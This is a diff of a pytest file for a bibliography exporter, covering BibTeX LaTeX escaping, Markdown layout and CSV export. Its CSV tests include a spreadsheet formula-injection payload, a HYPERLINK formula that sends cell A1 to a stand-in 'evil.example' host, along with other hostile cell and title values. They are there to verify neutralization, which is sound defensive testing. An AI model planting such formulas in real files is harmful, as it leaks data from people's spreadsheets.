@@ -23,7 +23,7 @@ from pathlib import Path
 import pytest
 
 from adbib import exporters
-from adbib.exporters import bibtex, markdown
+from adbib.exporters import bibtex
 from adbib.exporters import csv as csv_export
 from adbib.exporters import json as json_export
 from adbib.readers import adbib_csv, adbib_markdown
@@ -126,8 +126,8 @@ def test_bibtex_entries_of_each_kind():
     text = (GOLDEN / "papers.bib").read_text(encoding="utf-8")
     assert (
         "@inproceedings{ruff2020deep,\n"
-        "  author = {Ruff, Lukas and Vandermeulen, Robert A. and G{\\\"o}rnitz, Nico and Binder, Alexander"
-        " and M{\\\"u}ller, Emmanuel and M{\\\"u}ller, Klaus-Robert and Kloft, Marius},\n"
+        '  author = {Ruff, Lukas and Vandermeulen, Robert A. and G{\\"o}rnitz, Nico and Binder, Alexander'
+        ' and M{\\"u}ller, Emmanuel and M{\\"u}ller, Klaus-Robert and Kloft, Marius},\n'
         "  title = {Deep Semi-Supervised Anomaly Detection},\n"
         "  year = {2020},\n"
         "  booktitle = {International Conference on Learning Representations},\n"
@@ -137,10 +137,13 @@ def test_bibtex_entries_of_each_kind():
         "  code = {https://github.com/lukasruff/Deep-SAD-PyTorch}\n"
         "}\n"
     ) in text
+    maediff = (
+        "{MAEDiff}: Masked Autoencoder-enhanced Diffusion Models for Unsupervised Anomaly Detection in Brain Images"
+    )
     assert (
         "@misc{anon2024maediff,\n"
-        "  key = {{MAEDiff}: Masked Autoencoder-enhanced Diffusion Models for Unsupervised Anomaly Detection in Brain Images},\n"
-        "  title = {{MAEDiff}: Masked Autoencoder-enhanced Diffusion Models for Unsupervised Anomaly Detection in Brain Images},\n"
+        f"  key = {{{maediff}}},\n"  # no author: plain/alpha sort and label by the key
+        f"  title = {{{maediff}}},\n"
         "  year = {2024},\n"
         "  eprint = {2401.10561},\n"
         "  archivePrefix = {arXiv},\n"
@@ -157,13 +160,14 @@ def test_bibtex_entries_of_each_kind():
     assert "  booktitle = {IEEE/CVF Conference on Computer Vision and Pattern Recognition Workshops},\n" in text
     # url and doi are verbatim fields for biber: % _ # ? stay as they are
     assert "  url = {https://www.sciencedirect.com/science/article/pii/S1361841523000555?via%3Dihub},\n" in text
-    assert "  code = {https://github.com/caiyu6666/MedIAnomaly?tab=readme-ov-file#reconstruction-based-methods}\n" in text
+    code = "https://github.com/caiyu6666/MedIAnomaly?tab=readme-ov-file#reconstruction-based-methods"
+    assert f"  code = {{{code}}}\n" in text
     assert "  doi = {10.1007/978-3-031-16452-1_67},\n" in text
 
 
 def test_bibtex_unicode_keeps_utf8_but_escapes_latex_specials():
     text = (GOLDEN / "papers.unicode.bib").read_text(encoding="utf-8")
-    assert "G{\\\"o}rnitz" not in text
+    assert 'G{\\"o}rnitz' not in text
     assert "Ruff, Lukas and Vandermeulen, Robert A. and Görnitz, Nico" in text
     assert "Gröger, Fabian" in text
     assert "O'Hacker\\_\\ensuremath{<}b\\ensuremath{>}*, Eve" in text
@@ -173,20 +177,49 @@ def test_bibtex_unicode_keeps_utf8_but_escapes_latex_specials():
 @pytest.mark.parametrize(
     ("title", "latex"),
     [
-        ("MediCLIP: Adapting CLIP for Few-Shot Medical Image Anomaly Detection",
-         "{MediCLIP}: Adapting {CLIP} for Few-Shot Medical Image Anomaly Detection"),
-        ("f-AnoGAN: Fast unsupervised anomaly detection with generative adversarial networks",
-         "{f-AnoGAN}: Fast unsupervised anomaly detection with generative adversarial networks"),
-        ("Emerging Properties in Self-Supervised Vision Transformers (DINO) on MVTec AD",
-         "Emerging Properties in Self-Supervised Vision Transformers ({DINO}) on {MVTec} {AD}"),
-        ("Rethinking Autoencoders for Medical Anomaly Detection from A Theoretical Perspective",
-         "Rethinking Autoencoders for Medical Anomaly Detection from A Theoretical Perspective"),
+        (
+            "MediCLIP: Adapting CLIP for Few-Shot Medical Image Anomaly Detection",
+            "{MediCLIP}: Adapting {CLIP} for Few-Shot Medical Image Anomaly Detection",
+        ),
+        (
+            "f-AnoGAN: Fast unsupervised anomaly detection with generative adversarial networks",
+            "{f-AnoGAN}: Fast unsupervised anomaly detection with generative adversarial networks",
+        ),
+        (
+            "Emerging Properties in Self-Supervised Vision Transformers (DINO) on MVTec AD",
+            "Emerging Properties in Self-Supervised Vision Transformers ({DINO}) on {MVTec} {AD}",
+        ),
+        (
+            "Rethinking Autoencoders for Medical Anomaly Detection from A Theoretical Perspective",
+            "Rethinking Autoencoders for Medical Anomaly Detection from A Theoretical Perspective",
+        ),
         ("3D U-Net for MICCAI 2024", "{3D} {U-Net} for {MICCAI} 2024"),
-        ("ÖZTÜRK’s Gröger–method", "{{\\\"O}ZT{\\\"U}RK{\\textquoteright}s} Gr{\\\"o}ger{\\textendash}method"),
+        ("ÖZTÜRK’s Gröger–method", '{{\\"O}ZT{\\"U}RK{\\textquoteright}s} Gr{\\"o}ger{\\textendash}method'),
     ],
 )
 def test_bibtex_title_protects_capitals(title, latex):
     assert bibtex.latex_title(title) == latex
+
+
+@pytest.mark.parametrize(
+    ("text", "latex"),
+    [
+        ("Sandkühler", 'Sandk{\\"u}hler'),
+        # lgc list line 191; pylatexenc's {\'\i} would reach pdflatex through biber as ı + U+0301
+        ("Silva-Rodríguez", "Silva-Rodr{\\'i}guez"),
+        (
+            "van den Hengel & Co, 50% a_b #1 $2 ~x ^y",
+            "van den Hengel \\& Co, 50\\% a\\_b \\#1 \\$2 \\textasciitilde{}x \\textasciicircum{}y",
+        ),
+        ("中文", "{\\bfseries ?}{\\bfseries ?}"),  # no LaTeX for it in ASCII: a visible marker
+    ],
+)
+def test_bibtex_latex_encoding(text, latex):
+    assert bibtex.latex(text) == latex
+
+
+def test_bibtex_unicode_option_escapes_only_latex_specials():
+    assert bibtex.latex("Silva-Rodríguez 中文 & 50%", unicode=True) == "Silva-Rodríguez 中文 \\& 50\\%"
 
 
 def test_bibtex_hostile_title_is_escaped_and_balanced():
@@ -327,18 +360,33 @@ def test_bibtex_compiles_without_warnings_with_bibtex_and_biber(tmp_path):
 
 def test_markdown_layout():
     text = export("markdown")
-    assert text.startswith("<!-- generated by adbib: do not edit by hand -->\n\n# Industrial\n\n## Supervised\n\n### 2020\n\n")
+    assert text.startswith(
+        "<!-- generated by adbib: do not edit by hand -->\n\n# Industrial\n\n## Supervised\n\n### 2020\n\n"
+    )
     headings = re.findall(r"^#+ .*$", text, re.M)
     assert headings == [
-        "# Industrial", "## Supervised", "### 2020", "### 2019",
+        "# Industrial",
+        "## Supervised",
+        "### 2020",
+        "### 2019",
         "# Medical",
-        "## Benchmark", "### 2024",
-        "## Reconstruction", "### 2023", "### 2022",
-        "## Survey", "### 2025",
-        "## Synthesis", "### 2025",
-        "## Other", "### 2024",
-        "# General", "## Other", "### 2023",
-        "# Uncategorized", "## Other", "### Unknown year",
+        "## Benchmark",
+        "### 2024",
+        "## Reconstruction",
+        "### 2023",
+        "### 2022",
+        "## Survey",
+        "### 2025",
+        "## Synthesis",
+        "### 2025",
+        "## Other",
+        "### 2024",
+        "# General",
+        "## Other",
+        "### 2023",
+        "# Uncategorized",
+        "## Other",
+        "### Unknown year",
     ]
     # two categories (reconstruction, synthesis): listed once, under the first
     assert text.count("**Fast Unsupervised Brain Anomaly Detection and Segmentation with Diffusion Models**") == 1
@@ -350,8 +398,13 @@ def test_markdown_layout():
         " and others\n"
         "  - Datasets: HeadCT, UKB, WMH, MSLUB, BraTS\n"
         "  - Summary: Latent-space diffusion models for brain image anomaly detection.\n"
+        "  - Also in: Synthesis\n"
         "  - IDs: arXiv 2206.03461, DOI 10.1007/978-3-031-16452-1\\_67\n"
     ) in text
+    # BMAD's dataset was found in its abstract: the Abstract line carries it, not the Datasets line
+    bmad = text.split("**BMAD: Benchmarks for Medical Anomaly Detection**")[1].split("\n- ")[0]
+    assert "  - Datasets:" not in bmad
+    assert "  - Abstract: Anomaly detection (AD) is a fundamental research problem" in bmad
 
 
 def test_markdown_keeps_input_order_within_a_heading():
@@ -365,7 +418,11 @@ def test_markdown_category_titles_give_names_and_order():
     text = export("markdown", category_titles=titles)
     medical = text.split("# Medical\n")[1].split("# General\n")[0]
     assert re.findall(r"^## .*$", medical, re.M) == [
-        "## Synthesis-based Methods", "## Reconstruction-based Methods", "## Benchmark", "## Survey", "## Other",
+        "## Synthesis-based Methods",
+        "## Reconstruction-based Methods",
+        "## Benchmark",
+        "## Survey",
+        "## Other",
     ]
 
 
@@ -405,16 +462,18 @@ def test_markdown_round_trip():
         assert r.venue_raw == paper["venue"]
         assert r.authors_raw == (", ".join(authors) or None)
         assert [(link.role, link.url) for link in r.links] == _expected_links(paper)
-        assert r.datasets_raw == [d["name"] for d in paper["datasets"]]
+        assert r.datasets_raw == [d["name"] for d in paper["datasets"] if d["evidence"] != "abstract"]
         assert r.domain == paper["domain"]
         assert r.summary == paper["summary"]
         assert r.date == paper["date"]
+        assert r.abstract == paper["abstract"]
         assert r.problems == []
     pinaya = records["Fast Unsupervised Brain Anomaly Detection and Segmentation with Diffusion Models"]
-    assert pinaya.headings == ["Medical", "Reconstruction"]
+    assert pinaya.headings == ["Medical", "Reconstruction", "Synthesis"]
     assert pinaya.section == "Reconstruction"
-    assert pinaya.line == 43
-    assert pinaya.raw.startswith("- *(2022-MICCAI)* **Fast Unsupervised") and pinaya.raw.endswith("DOI 10.1007/978-3-031-16452-1\\_67")
+    assert pinaya.line == 44
+    assert pinaya.raw.startswith("- *(2022-MICCAI)* **Fast Unsupervised")
+    assert pinaya.raw.endswith("  - IDs: arXiv 2206.03461, DOI 10.1007/978-3-031-16452-1\\_67")
     assert records["Deep Semi-Supervised Anomaly Detection"].headings == ["Industrial", "Supervised"]
     assert records[FORMULA["title"]].headings == ["General"]
     assert records[HOSTILE["title"]].headings == []
@@ -426,7 +485,11 @@ def test_markdown_ids_no_link_carries_become_links():
     paper = dict(
         BY_KEY["anon2024maediff"],
         title="Anomaly detection via gating highway connection for retinal fundus images",
-        year=2023, date="2023-12-01", venue="PR", arxiv="2311.00001", doi="10.1016/j.patcog.2023.110167",
+        year=2023,
+        date="2023-12-01",
+        venue="PR",
+        arxiv="2311.00001",
+        doi="10.1016/j.patcog.2023.110167",
         links={"code": ["https://github.com/WentianZhang-ML/GatingAno"]},
     )
     (record,) = adbib_markdown.read(export("markdown", papers=[paper])).records
@@ -435,6 +498,15 @@ def test_markdown_ids_no_link_carries_become_links():
         LinkRecord("arxiv", "https://arxiv.org/abs/2311.00001", "arXiv"),
         LinkRecord("doi", "https://doi.org/10.1016/j.patcog.2023.110167", "DOI"),
     ]
+
+
+def test_auto_detection_picks_the_adbib_readers_for_adbib_exports():
+    """`adbib import FILE` must read adbib's own exports with the adbib dialects, not with a list
+    reader whose detect() also accepts them (the LGC list's bullets look alike)."""
+    from adbib import readers
+
+    assert readers.detect((GOLDEN / "papers.md").read_text(encoding="utf-8")) == "adbib-md"
+    assert readers.detect((GOLDEN / "papers.csv").read_bytes().decode("utf-8")) == "csv"
 
 
 def test_markdown_reader_detect_and_errors():
@@ -458,18 +530,23 @@ def test_csv_header_and_neutralized_cells():
         "citekey,title,authors,year,venue,venue_type,doi,arxiv,url,code,datasets,categories,domain,sources\r\n"
     )
     assert text.endswith(
-        "hooft2023hyperlink,\"'=HYPERLINK(\"\"https://evil.example/?q=\"\"&A1,\"\"Click\"\")\",''t Hooft,2023,,,,,"
+        'hooft2023hyperlink,"\'=HYPERLINK(""https://evil.example/?q=""&A1,""Click"")",\'\'t Hooft,2023,,,,,'
         "https://evil.example/?q=1,,'-Negative Set,,general,'=evil.csv:2\r\n"
     )
     assert csv_export.row(BY_KEY["cai2025medianomaly"]) == [
         "cai2025medianomaly",
         "MedIAnomaly: A comparative study of anomaly detection in medical images",
         "Yu Cai; Weiwen Zhang; Hao Chen; Kwang-Ting Cheng",
-        "2025", "MedIA", "journal", "", "2404.04518",
+        "2025",
+        "MedIA",
+        "journal",
+        "",
+        "2404.04518",
         "https://www.sciencedirect.com/science/article/pii/S1361841525000489",
         "https://github.com/caiyu6666/MedIAnomaly?tab=readme-ov-file#reconstruction-based-methods",
         "RSNA; VinDr-CXR; Brain Tumor; BraTS2021; LAG; Camelyon16",
-        "survey", "medical",
+        "survey",
+        "medical",
         "data/seed/lgc-industrial-medical-ad_2025-12.md:400; data/seed/diaoquesang-medical-ad_2025-06.md:427;"
         " data/seed/diaoquesang-medical-ad_2025-03.md:30",
     ]
@@ -477,8 +554,17 @@ def test_csv_header_and_neutralized_cells():
 
 @pytest.mark.parametrize(
     ("cell", "written"),
-    [("=1+1", "'=1+1"), ("+49 30", "'+49 30"), ("-2", "'-2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"),
-     ("\rx", "'\rx"), ("'quoted'", "''quoted'"), ("plain", "plain"), ("", "")],
+    [
+        ("=1+1", "'=1+1"),
+        ("+49 30", "'+49 30"),
+        ("-2", "'-2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("'quoted'", "''quoted'"),
+        ("plain", "plain"),
+        ("", ""),
+    ],
 )
 def test_csv_formula_neutralization_round_trips(cell, written):
     assert csv_export.neutralize(cell) == written
@@ -502,7 +588,7 @@ def test_csv_round_trip_through_the_reader():
     assert result.failures == []
     assert [r.title for r in result.records] == [p["title"] for p in PAPERS]
     assert [r.line for r in result.records] == list(range(2, 12))
-    for paper, r in zip(PAPERS, result.records):
+    for paper, r in zip(PAPERS, result.records, strict=True):
         authors = paper["authors"] + (["and others"] if paper["authors_truncated"] else [])
         assert r.year == paper["year"]
         assert r.venue_raw == paper["venue"]
@@ -514,16 +600,31 @@ def test_csv_round_trip_through_the_reader():
     assert formula.title == '=HYPERLINK("https://evil.example/?q="&A1,"Click")'
     assert formula.authors_raw == "'t Hooft"
     assert formula.datasets_raw == ["-Negative Set"]
+    # the dl.acm.org URL carries the DOI already: no doi.org link is added
     assert [(link.role, link.url) for link in result.records[1].links] == [
         ("paper", "https://dl.acm.org/doi/10.1145/3292500.3330871"),
         ("code", "https://github.com/mala-lab/deviation-network-image"),
-        ("doi", "https://doi.org/10.1145/3292500.3330871"),
         ("arxiv", "https://arxiv.org/abs/1911.08623"),
     ]
     # an arXiv-only paper: its url column is the arXiv page, not repeated
     assert [(link.role, link.url) for link in result.records[4].links] == [
         ("arxiv", "https://arxiv.org/abs/2401.10561"),
     ]
+
+
+def test_csv_ids_no_link_carries_become_links():
+    paper = dict(  # medaierhhl list line 20, its MIA link being a doi.org link
+        BY_KEY["anon2024maediff"],
+        title="Latent Transformer Models for out-of-distribution detection",
+        year=2023,
+        date="2023-09-16",
+        venue="MedIA",
+        arxiv=None,
+        doi="10.1016/j.media.2023.102967",
+        links={},
+    )
+    (record,) = adbib_csv.read(export("csv", papers=[paper])).records
+    assert record.links == [LinkRecord("doi", "https://doi.org/10.1016/j.media.2023.102967", "doi")]
 
 
 def test_csv_reader_failures():
